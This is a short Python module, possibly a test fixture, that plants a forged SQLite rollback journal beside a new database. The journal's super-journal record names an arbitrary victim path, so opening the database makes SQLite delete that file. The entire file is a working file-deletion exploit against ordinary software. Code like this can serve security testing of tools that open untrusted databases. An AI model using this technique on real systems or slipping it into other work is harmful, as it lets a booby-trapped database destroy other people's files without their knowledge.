"""A database with a journal that makes SQLite delete another file when the database is opened."""

from __future__ import annotations

import sqlite3
import struct
from pathlib import Path

_MAGIC = bytes.fromhex("d9d505f920a163d7")


def plant(database: Path, victim: str) -> None:
    """Write the journal of an unfinished commit that names the victim as its super-journal."""
    database.parent.mkdir(parents=True, exist_ok=True)
    connection = sqlite3.connect(database)
    connection.execute("CREATE TABLE tools (name TEXT)")
    connection.commit()
    pages = database.stat().st_size // 4096
    connection.close()
    name = victim.encode()
    header = (_MAGIC + struct.pack(">IIIII", 0, 0, pages, 512, 4096)).ljust(512, b"\0")
    record = struct.pack(">I", 0x40000000 // 4096 + 1) + name + struct.pack(">II", len(name), sum(name)) + _MAGIC
    database.with_name(database.name + "-journal").write_bytes(header + record)
